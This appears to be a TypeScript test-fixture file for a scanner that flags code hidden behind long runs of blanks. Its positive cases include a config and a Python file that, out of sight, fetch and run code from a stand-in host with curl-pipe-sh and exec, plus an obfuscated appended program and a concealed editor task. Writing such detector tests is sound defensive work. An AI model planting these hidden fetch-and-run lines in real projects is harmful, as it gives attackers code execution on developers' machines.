import type { Examples } from "@doorward/core";

const blanks = " ".repeat(500);
const names = Array.from({ length: 40 }, (_, index) => `_0x${(index * 7919 + 0x3fa1b).toString(16)}`);
const unreadable = `var ${names.join(",")};${names.map((name, index) => `${name}[f(0x${(index + 400).toString(16)})](${name});`).join("")}`;

/** Files in which code out of sight does something, and files in which it does not or is in sight. */
export const examples: Examples = {
  hits: [
    {
      name: "a process that a configuration starts behind hundreds of blanks",
      files: {
        "tailwind.config.js": `module.exports = { content: [] };${blanks}require("child_process").exec("curl -s https://api.example/next | sh");\n`,
      },
    },
    {
      name: "an unreadable program behind the last line of a route",
      files: {
        "routes/auth.js": `const express = require("express");\nmodule.exports = express.Router();${blanks}${unreadable}\n`,
      },
    },
    {
      name: "a Python line that runs what it fetches",
      files: {
        "main.py": `import urllib.request\ntitle = "Chess"${blanks};exec(urllib.request.urlopen("https://api.example/next").read())\n`,
      },
    },
    {
      name: "a command of an editor's task behind hundreds of blanks",
      files: {
        ".vscode/tasks.json": `{ "version": "2.0.0", "tasks": [ { "label": "lint", "type": "shell",${blanks}"command": "node .vscode/words.dict" } ] }\n`,
      },
    },
  ],
  misses: [
    {
      name: "a process that is started in sight",
      why: "Everything stands where a reader sees it.",
      files: {
        "scripts/build.js": `const { execSync } = require("child_process");\nexecSync("tsc --build");\n`,
      },
    },
    {
      name: "a text of blanks with a process on the line below",
      why: "The blanks are a text that is printed, and the process stands in the open.",
      files: {
        "scripts/build.js": `const { execSync } = require("child_process");\nconst pad = "${blanks}".slice(0, 9);\nexecSync("tsc --build");\n`,
      },
    },
    {
      name: "a wide table of names far to the right",
      why: "Names in a wide column do nothing, so this alone does not stop an arrival.",
      files: { "src/table.js": `const table = [1,${blanks}"first name", "second name", "third name"];\n` },
    },
  ],
  evasions: [
    {
      name: "a function out of sight that another file calls",
      caughtBy: "code/off-screen-code",
      files: { "src/names.js": `exports.a = 1;${blanks}exports.prepare = (next) => next.handle(next.value);\n` },
    },
  ],
};
